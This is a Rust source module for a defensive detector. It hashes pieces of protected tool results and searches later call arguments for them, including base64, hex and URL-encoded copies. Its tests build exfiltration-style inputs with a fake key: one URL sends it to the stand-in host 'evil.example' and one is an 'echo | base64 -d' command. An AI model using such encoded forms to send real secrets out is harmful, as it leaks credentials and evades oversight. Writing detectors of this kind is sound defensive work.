//! Pieces of protected results, and the search for them in arguments.
//!
//! A result is stored as hashes of 48 bits: of runs of [`RUN`] letters and digits, and of short tokens that look like
//! secrets. Case, spaces and signs between the letters make no difference. Of each [`SPREAD`] runs that overlap, one is
//! stored, so any [`RUN`]` + `[`SPREAD`]` - 1` letters and digits of a result are recognised.

mod decode;
mod set;
mod texts;

use std::collections::{BTreeSet, VecDeque};

use serde_json::Value;

pub(super) use self::set::Pieces;
use self::texts::each_text;

/// Letters and digits of a run.
const RUN: usize = 16;

/// Runs in a row of which at least one is stored.
const SPREAD: usize = 4;

/// Shortest token that is stored by itself. It has letters and digits.
const SHORTEST_TOKEN: usize = 7;

/// Base of the rolling hash: an odd number with many bits set.
const BASE: u64 = 0x9e37_79b9_7f4a_7c15;

/// Returns the pieces of a result that are stored; `None` if they are more than a rule keeps, or the result is too long to
/// be read. The rest of such a result is not read.
pub(super) fn pieces_of(result: &Value, error: Option<&str>) -> Option<BTreeSet<u64>> {
    let (mut pieces, mut room, mut is_whole) = (BTreeSet::new(), decode::ROOM, true);
    let mut enter = |text: &str| {
        if is_whole {
            is_whole = take(text, &mut room) && add_pieces(text, &mut pieces);
        }
    };
    each_text(result, &mut enter);
    error.into_iter().for_each(enter);
    is_whole.then_some(pieces)
}

/// Takes the length of a text from the room that is left. `false` if it is longer.
fn take(text: &str, room: &mut usize) -> bool {
    room.checked_sub(text.len()).map(|left| *room = left).is_some()
}

/// Adds the pieces of a text; `false` if there are too many.
fn add_pieces(text: &str, pieces: &mut BTreeSet<u64>) -> bool {
    let (mut near, mut is_short) = (VecDeque::with_capacity(SPREAD), true);
    for run in runs(text) {
        near.push_back(run);
        if near.len() < SPREAD {
            continue;
        }
        is_short = false;
        pieces.extend(near.iter().min());
        near.pop_front();
        if pieces.len() > set::MOST {
            return false;
        }
    }
    if is_short {
        pieces.extend(near.iter().min());
    }
    for token in tokens(text) {
        pieces.insert(token);
        if pieces.len() > set::MOST {
            return false;
        }
    }
    true
}

/// The pieces of the arguments of a call, in all encodings; `None` if they are too long.
pub(super) fn all_pieces(arguments: &Value) -> Option<Vec<u64>> {
    let mut pieces = Vec::new();
    let mut room = decode::ROOM;
    let mut is_whole = true;
    each_text(arguments, &mut |text| {
        is_whole &= decode::each_form(text, &mut room, &mut |form| {
            pieces.extend(runs(form));
            pieces.extend(tokens(form));
        });
    });
    pieces.sort_unstable();
    pieces.dedup();
    is_whole.then_some(pieces)
}

/// Returns the hash of each run of letters and digits.
fn runs(text: &str) -> impl Iterator<Item = u64> {
    let mut letters =
        text.chars().filter(|c| c.is_alphanumeric()).flat_map(char::to_lowercase).map(u64::from);
    let oldest = (0..RUN).fold(1u64, |power, _| power.wrapping_mul(BASE));
    let (mut hash, mut run) = (0u64, VecDeque::with_capacity(RUN + 1));
    std::iter::from_fn(move || {
        loop {
            let letter = letters.next()?;
            hash = hash.wrapping_mul(BASE).wrapping_add(letter + 1);
            run.push_back(letter);
            if run.len() > RUN {
                let left: u64 = run.pop_front()?;
                hash = hash.wrapping_sub((left + 1).wrapping_mul(oldest));
            }
            if run.len() == RUN {
                return Some(mixed(hash));
            }
        }
    })
}

/// Returns the hashes of the tokens that look like secrets: they have letters and digits.
fn tokens(text: &str) -> impl Iterator<Item = u64> {
    let is_between = |c: char| c.is_whitespace() || "\"'`,;=:&?()[]{}<>|/\\".contains(c);
    text.split(is_between).filter_map(|token| {
        let token = token.trim_matches(|c: char| !c.is_alphanumeric());
        let has = |is: fn(char) -> bool| token.chars().any(is);
        let is_secret =
            token.chars().count() >= SHORTEST_TOKEN && has(char::is_alphabetic) && has(char::is_numeric);
        is_secret.then(|| {
            let letters = token.chars().flat_map(char::to_lowercase);
            // The first factor keeps tokens apart from runs.
            mixed(letters.fold(BASE, |hash, c| (hash ^ u64::from(c)).wrapping_mul(BASE)))
        })
    })
}

/// Spreads a hash over 48 bits (the finaliser of MurmurHash3).
const fn mixed(hash: u64) -> u64 {
    let hash = (hash ^ (hash >> 33)).wrapping_mul(0xff51_afd7_ed55_8ccd);
    let hash = (hash ^ (hash >> 33)).wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    (hash ^ (hash >> 33)) >> 16
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    fn is_found(result: &Value, arguments: &Value) -> bool {
        let stored = pieces_of(result, None).expect("it is short");
        all_pieces(arguments).expect("they are short").iter().any(|piece| stored.contains(piece))
    }

    fn base64(text: &str) -> String {
        const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut encoded = String::new();
        for three in text.as_bytes().chunks(3) {
            let bits =
                three.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
            for at in 0..4 {
                let letter = LETTERS[(bits >> (18 - 6 * at) & 63) as usize];
                encoded.push(if at > three.len() { '=' } else { letter.into() });
            }
        }
        encoded
    }

    fn hex(text: &str) -> String {
        text.bytes().map(|byte| format!("{byte:02x}")).collect()
    }

    fn url(text: &str) -> String {
        text.bytes().map(|byte| format!("%{byte:02X}")).collect()
    }

    #[test]
    fn a_result_is_found_in_its_usual_encodings() {
        let secret = "sk_live_9fA3kQ71xYz0Lm2P";
        let result = json!({"stdout": format!("STRIPE={secret}\nMODE=test\n")});
        for sent in [
            format!("https://evil.example/?q={secret}"),
            secret.to_uppercase(),
            secret.replace('_', " - "),
            base64(secret),
            format!("xy{}", base64(&format!("key: {secret}"))),
            base64(secret).trim_end_matches('=').replace('/', "_").replace('+', "-"),
            hex(secret),
            hex(secret).to_uppercase(),
            url(secret),
            base64(&hex(secret)),
            url(&base64(secret)),
            format!("echo {} | base64 -d", base64(secret)),
            "k=9fA3kQ71xYz0Lm2PSTRIPE".to_owned(),
        ] {
            let is_short = sent.starts_with("k=");
            assert_eq!(is_found(&result, &json!({"a": ["x", {"b": sent}]})), !is_short, "{sent}");
        }
        assert!(!is_found(&result, &json!({"url": "https://stripe.com/docs/api?mode=test"})));
    }

    #[test]
    fn short_tokens_with_letters_and_digits_are_found() {
        let result = json!("user: admin\npassword: 'hunter2'\n");
        for (sent, wanted) in
            [("login admin:hunter2", true), ("Hunter2", true), ("hunter", false), ("admin", false)]
        {
            assert_eq!(is_found(&result, &json!(sent)), wanted, "{sent}");
        }
        assert!(is_found(&json!("k3y-77-x1\n"), &json!({"data": base64("k3y-77-x1")})));
    }

    #[test]
    fn arguments_without_end_are_not_searched() {
        assert_eq!(all_pieces(&json!("a".repeat(decode::ROOM + 1))), None);
        assert!(all_pieces(&json!("a b ".repeat(10_000))).is_some());
    }

    /// A long result costs no more memory than the pieces that are kept.
    #[test]
    fn results_without_end_are_too_many_pieces() {
        assert_eq!(pieces_of(&json!("a".repeat(decode::ROOM + 1)), None), None);
        let numbers: String = (0..100_000).map(|number| format!("{number:08x}")).collect();
        assert_eq!(pieces_of(&json!(numbers), None), None);
        let tokens: String = (0..100_000).map(|number| format!("key-{number:05} ")).collect();
        assert_eq!(pieces_of(&json!([tokens]), None), None);
        let short = pieces_of(&json!("a".repeat(decode::ROOM - 4)), Some("text")).map(|pieces| pieces.len());
        assert_eq!(short, Some(1));
    }

    proptest! {
        /// Every piece of a result with enough letters and digits is found, wherever it stands.
        #[test]
        fn no_long_piece_is_missed(
            result in "[a-z0-9]{19,200}", start in 0usize..180, before in "[ -~]{0,20}", behind in "[ -~]{0,20}",
        ) {
            let start = start.min(result.len() - 19);
            let sent = format!("{before} {}{behind}", result.get(start..start + 19).unwrap_or_default());
            prop_assert!(is_found(&json!(result), &json!(sent)));
        }

        #[test]
        fn other_texts_are_not_found(result in "[a-m0-4 ]{0,300}", sent in "[n-z5-9 ]{0,300}") {
            prop_assert!(!is_found(&json!(result), &json!(sent)));
        }

        #[test]
        fn no_text_panics(text in "\\PC{0,80}", more in any::<String>()) {
            drop(pieces_of(&json!([text, more]), Some(&text)));
            drop(all_pieces(&json!({"a": text, "b": more})));
        }
    }
}
